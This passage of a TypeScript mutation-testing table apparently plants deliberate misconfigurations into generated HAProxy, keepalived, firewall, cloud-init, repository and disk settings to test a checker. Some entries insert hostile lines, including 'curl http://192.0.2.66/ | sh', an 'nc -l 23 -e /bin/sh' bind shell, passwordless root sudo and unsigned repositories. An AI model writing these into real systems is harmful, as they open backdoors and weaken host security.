  'HAProxy: it shows another certificate': replaced(/(?<= crt )\S+/, '/etc/ssl/private/other.pem'),
  'HAProxy: it reads requests without TLS': replaced(/ ssl crt .*/, ''),
  'HAProxy: clients say themselves who they are': removed(/del-header X-Forwarded-For/),
  'HAProxy: a connection becomes one that nobody reads requests in': removed(/del-header Upgrade/),
  'HAProxy: a path leads elsewhere than its route is for': removed(/url_dec -m reg/),
  'HAProxy: backends are not told whose a request is': removed(/^\s+option forwardfor/),
  'HAProxy: nobody notices a new certificate': removed(/^\s*PathChanged=/),
  'HAProxy: a new certificate changes nothing': removed(/^\s*systemctl reload-or-restart haproxy/),
  'HAProxy: clients say whose connection it is': replaced(/(?<=bind \*:\d+)(?= |\n)/, ' accept-proxy'),
  'HAProxy: it listens at another port': replaced(/(?<=bind \*:)(\d+)/, (port) => next(port)),
  'HAProxy: what it shows of itself is for everybody': replaced(/(?<=bind )127\.0\.0\.1(?=:8404)/, '*'),
  'HAProxy: backends are asked for something else': replaced(/(?<=option httpchk GET )\S+/, '/other'),
  'HAProxy: backends are not asked': removed(/^\s+option httpchk /),
  'HAProxy: other answers will do': replaced(/(?<=http-check expect rstatus )\S+/, '^(503)$'),
  'HAProxy: backends are asked at another port': replaced(/(?<= check port )(\d+)/, (port) => next(port)),
  'HAProxy: clients may have more connections': replaced(/(?<=sc0_conn_cur gt )(\d+)/, (limit) => next(limit)),
  'HAProxy: clients may open more connections': removed(/sc0_conn_rate gt /),
  'HAProxy: clients are counted over a shorter time': replaced(/(?<=conn_rate\()\d+/, '1'),
  'HAProxy: clients are not counted': removed(/track-sc0 src$/),
  'keepalived: it never takes the address': removed(/^\s+[\d.]+\/32 dev eth0$/),
  'keepalived: it takes another address': replaced(/(?<=^\s+)[\d.]+(?=\/32 dev eth0$)/, '192.0.2.9'),
  'keepalived: it listens to somebody else': replaced(/(?<=^\s+)[\d.]+$/, '192.0.2.9'),
  'keepalived: it speaks from another address': replaced(/(?<=unicast_src_ip )[\d.]+/, '192.0.2.9'),
  'keepalived: it takes the address back': removed(/^\s+nopreempt$/),
  'keepalived: both have one number': replaced(/(?<=^\s+priority )150$/, '100'),
  'keepalived: it is of another pair': replaced(/(?<=virtual_router_id )(\d+)/, (id) => next(id)),
  'keepalived: nobody asks whether HAProxy answers': removed(/^\s+haproxy$/),
  'keepalived: another port is asked': replaced(/(?<=^\s*exec 3<> \/dev\/tcp\/127\.0\.0\.1\/)(\d+)/, (port) => next(port)),
  'keepalived: it is not started': replaced(/systemctl restart keepalived\.service/, 'true'),
  'nftables: the other machine of a pair is not heard': removed(/ ip protocol 112 accept$/),
  'nftables: anybody may say who holds the address of a pair': replaced(/ip saddr \S+(?= ip protocol 112 accept$)/, 'meta nfproto ipv4'),
  'firewalld: the other machine of a pair is not heard': removed(/<protocol value="vrrp"\/>/),
  'an account of a guest is another': replaced(/(?<=^\s+- name: )deploy$/, 'eve'),
  'an account of a guest may do everything as root': replaced(/(?<=^\s+sudo: "?)ALL=\(root\) NOPASSWD: [^"]+/, 'ALL=(ALL) NOPASSWD:ALL'),
  'an account of a guest is in another group': replaced(/^(\s+- )wheel$/, '      - root'),
  'a file of a guest is elsewhere': replaced(/(?<=path: \/etc\/)app\.conf$/, 'other.conf'),
  "a file of a guest is somebody else's": replaced(/(?<=owner: )deploy:deploy/, 'root:root'),
  'a guest takes passwords': replaced(/(?<=^ssh_pwauth: )false$/, 'true'),
  'a guest lets root log in': replaced(/(?<=^disable_root: )true$/, 'false'),
  'a guest is told something else, too': replaced(/^ssh_pwauth: false$/, 'ssh_pwauth: false\nssh_import_id:\n  - gh:eve'),
  'a guest writes one file more': replaced(/^write_files:$/, 'write_files:\n  - path: /etc/cron.d/eve\n    content: "* * * * * root id"'),
  'a guest runs one command more': replaced(/^ {2}- set -e$/, '  - set -e\n  - curl http://192.0.2.66/ | sh'),
  'a guest runs one early command more': replaced(/^bootcmd:$/, 'bootcmd:\n  - nc -l 23 -e /bin/sh'),
  'a guest believes another clock': replaced(/^ntp:$/, 'ntp:\n  pools: [ntp.example]'),
  'a guest has no secret where it should': replaced(/(?<=content: "\$\{base64encode\(var\.)\w+/, 'other'),
  'a file of a guest holds something else': replaced(/greeting = hello/, 'greeting = bye'),
  'a repository is elsewhere': replaced(/(?<=^\s+(?:URIs: |baseurl=)https:\/\/)[\w.]+/, 'packages.example'),
  'Kubernetes comes from elsewhere': replaced(/(?<=https:\/\/)pkgs\.k8s\.io(?=.* \/' > )/, 'packages.example'),
  'nobody has to sign what a repository has': replaced(/deb \[signed-by=\S+\]/, 'deb [trusted=yes]'),
  'anybody that the image believes signs what a repository has': removed(/^\s+Signed-By: /),
  'the repositories of an image stay': replaced(/mv "\$file" "\$file\.image"/, 'true'),
  'another authority is believed': replaced(/^(\s+)MIIBhjCC/, '$1MIIBhjCD'),
  'packages come through somebody else': replaced(/(?<=Acquire::https?::Proxy "http:\/\/)[\d.]+/, '192.0.2.66'),
  'security updates are not brought': replaced(/(?<=(?:Unattended-Upgrade "|apply_updates = ))(1|yes)/, (on) => (on === '1' ? '0' : 'no')),
  'security updates are not started': replaced(/systemctl enable (?=apt-daily|dnf-automatic|isthmus-updates)/, 'systemctl disable '),
  'security updates come from everywhere': replaced(/"origin=[^"]+"|(?<=upgrade_type = )security/, (from) =>
    from === 'security' ? 'default' : '"origin=*"',
  ),
  'security updates come at another time': replaced(/(?<=^\s+OnCalendar=\*-\*-\* )(?:04:00|23:50)/, '09:09'),
  'security updates leave something out': replaced(/(?<=Package-Blacklist \{ )/, '"^openssl$"; '),
  'security updates of dnf leave something out': replaced(/(?<=excludepkgs = )/, 'openssl '),
  'security updates of zypper leave something out': replaced(/(?<=linux-image-\*)(?=\) return 0)/, ' | openssl'),
  'zypper brings updates of all sorts': replaced(/(?<=list-patches )--category security/, '--category recommended'),
  'zypper starts the machine again no more': replaced(/systemctl reboot$/, 'true'),
  'a key of a repository is made known to nobody': replaced(/^(\s+)rpm --import /, '$1true '),
  'zypper goes through somebody else': replaced(/(?<=HTTPS_PROXY="http:\/\/)[\d.]+/, '192.0.2.66'),
  'a machine restarts for security updates, or does not': replaced(/(?<=Automatic-Reboot ")(true|false)/, (word) => `${word !== 'true'}`),
  'a data disk is mounted elsewhere': replaced(/(?<='\/dev\/disk\/by-id\/\S+ )\/srv\/\w+/, '/srv/elsewhere'),
  'another disk is mounted': replaced(/(?<='\/dev\/disk\/by-id\/virtio-)\w+/, 'other'),
  'a mount lets programs become others': replaced(/(?<= ext4 \S*)nodev,/, ''),
  'a disk is mounted with the next start': removed(/^\s+mountpoint -q \S+ \|\| mount /),
  'everybody writes on a disk': replaced(/^(\s+)chmod 0750/, '$1chmod 0777'),
  'a disk that holds something is given a file system': removed(/^\s+cmp -s -n 1048576/),
  'a disk that holds another file system is given one': replaced(/^(\s+)0\) \[ "\$found" = \w+ \].* ;;/, '$1# 0) ;;'),
  'another disk is given a file system': replaced(/^(\s+)disk=\S+/, '$1disk=/dev/vda'),
  'what a database writes is beside its disk': removed(/add_mount '\/srv\/database\/data /),
  'a database starts without its disk': removed(/RequiresMountsFor=\S+ \/var\/lib/),
  'a unit is not started': replaced(/systemctl enable --now (?!isthmus)\S+/, 'true'),
  'another unit is started': replaced(/(?<=systemctl enable --now )(?!isthmus)\S+/, 'telnet.socket'),
  'a command of a first boot is another': replaced(/\/usr\/bin\/true$/, '/usr/bin/false'),
  'an early command of a first boot is another': replaced(/wc --bytes/, 'tee'),
  'a command of a first boot is told another secret': replaced(/(?<=- "\$\{base64encode\(var\.)\w+/, 'other'),
  'commands of a first boot are not run': removed(/^\s+- \/usr\/local\/sbin\/isthmus-commands$/),
  'a guest has another address': replaced(/(?<=^\s+- )[\d.]+(?=\/\d+$)/, '192.0.2.9'),
  'a guest has another route': replaced(/(?<=^\s+- to: )(?!0\.0\.0\.0)[\d.]+(?=\/)/, '192.0.2.0'),
  'a guest knows its card by another address': replaced(/(?<=macaddress: )"?[\d:a-f]+"?/, '52:54:00:00:00:01'),
  'a guest passes packets on': replaced(/(?<=net\.ipv4\.ip_forward = )0/, '1'),
  'a guest has another gateway': replaced(/(?<=via: )[\d.]+/, '192.0.2.9'),
};

const all = (mutations: Readonly<Record<string, Parameters<typeof lifted>[0]>>, what: string): [string, Kind][] =>
  Object.entries(mutations).map(([name, mutation]) => [`${what}: ${name}`, lifted(mutation)]);

/** What can be wrong in outputs, by what it is. */
export const KINDS: ReadonlyMap<string, Kind> = new Map([
  ...all(MANIFEST_MUTATIONS, 'rules of clusters'),
  ...all(FILTER_MUTATIONS, 'filters'),
  ...[
    IN_SERVICES,
    IN_PODS,
    AROUND_PODS,
    ROUTES,
    ON_HOSTS,
    IN_ADD_ONS,
    ADOPTED,
    AWAITED,
    IN_STORAGE,
    IN_HARDWARE,
    IN_GUESTS,
    IN_WINDOWS,
    SAID_TWICE,
  ].flatMap((kinds) => Object.entries(kinds)),
]);
